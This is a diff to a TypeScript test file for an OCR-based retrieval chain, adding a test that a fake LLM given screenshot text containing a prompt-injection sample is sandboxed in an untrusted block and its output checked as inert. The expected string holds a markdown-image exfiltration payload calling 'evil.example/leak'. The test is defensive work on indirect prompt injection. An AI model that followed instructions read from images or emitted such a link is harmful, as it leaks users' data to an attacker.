@@ -11,6 +11,8 @@ import type { OcrEngine } from "../../src/inference/ocr/ocr-engine.ts";
 import { createLogger } from "../../src/logger.ts";
 import type { OcrLine, OcrMetadata, OcrReading } from "../../src/media/ocr-lines.ts";
 import { createLoupeChain, type LoupeChainOptions } from "../../src/rag/chain.ts";
+import { renderEvidence, UNTRUSTED_CLOSE, UNTRUSTED_OPEN } from "../../src/rag/llm-composer.ts";
+import type { AnswerComposer, ComposeInput } from "../../src/rag/types.ts";
 import type { SearchHit, StoredImage, TextSearchRequest } from "../../src/store/index.ts";
 import { expectInert, INJECTION } from "../security/answers-inert.ts";
 import { shippedVocabulary } from "./pack-vocabulary.ts";
@@ -65,7 +67,7 @@ function fakeOcr(): OcrEngine & { reads: number[] } {
   };
 }
 
-function chainOver({ ocr }: { ocr?: OcrEngine } = {}) {
+function chainOver({ ocr, llm }: { ocr?: OcrEngine; llm?: AnswerComposer } = {}) {
   const textSearches: TextSearchRequest<"image">[] = [];
   let encoded = 0;
   const models = {
@@ -120,6 +122,7 @@ function chainOver({ ocr }: { ocr?: OcrEngine } = {}) {
     logger: createLogger({ level: "silent" }),
     config: { chatMaxTurns: 20, chatMaxImages: 8, maxImagePixels: 40_000_000 },
     ...(ocr === undefined ? {} : { ocr }),
+    ...(llm === undefined ? {} : { llm }),
   };
   return { chain: createLoupeChain(options as unknown as LoupeChainOptions), textSearches };
 }
@@ -227,6 +230,38 @@ describe("the chain on questions about text in images", () => {
     });
     expect(result.answered).toBe(true);
     expect(result.answer).toContain("Upload failed");
+    expectInert(result.answer);
+  });
+
+  it("gives the LLM the screenshot's text inside the untrusted block, and guards what it writes back", async () => {
+    const inputs: ComposeInput[] = [];
+    const llm: AnswerComposer = {
+      kind: "llm",
+      model: "fake-llm",
+      vision: false,
+      async compose(input, onDelta) {
+        inputs.push(input);
+        // A model that obeyed the screenshot would write this.
+        const text = `It says: ${INJECTION} [att_1].`;
+        onDelta(text);
+        return { text, model: "fake-llm" };
+      },
+    };
+    const { chain } = chainOver({ ocr: fakeOcr(), llm });
+    const result = await chain.invoke({
+      tenant: "default",
+      question: "What does the error say?",
+      images: [screen(3)],
+    });
+    const block = renderEvidence({ evidence: inputs[0]?.evidence ?? [] });
+    const inner = block.slice(
+      block.indexOf(UNTRUSTED_OPEN) + UNTRUSTED_OPEN.length,
+      block.indexOf(UNTRUSTED_CLOSE),
+    );
+    expect(inner).toContain('"Upload failed: ![x](https://evil.example/leak?d=1) ‹img src=');
+    expect(inner).not.toMatch(/<[a-z]/i);
+    expect(result.composer).toBe("llm");
+    expect(result.citations.map((citation) => citation.id)).toEqual(["att_1"]);
     expectInert(result.answer);
   });
 
